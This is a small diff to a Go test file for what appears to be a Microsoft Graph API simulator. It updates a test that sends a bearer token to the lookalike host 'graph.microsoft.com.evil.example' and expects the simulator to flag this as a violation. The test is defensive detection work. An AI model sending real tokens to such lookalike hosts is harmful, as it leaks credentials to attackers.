@@ -57,7 +57,7 @@ func TestReadsAreNoViolations(t *testing.T) {
 func TestTokensElsewhereAreViolations(t *testing.T) {
 	s := serve(30, simulator.Options{})
 	c := newClient(t, s, inMemory(s))
-	r, err := http.NewRequest(http.MethodGet, "https://graph.microsoft.com.evil.example/v1.0/users", nil)
+	r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "https://graph.microsoft.com.evil.example/v1.0/users", nil)
 	require.NoError(t, err)
 	r.Header.Set("Authorization", "Bearer "+c.token)
 	_, err = c.http.Do(r)
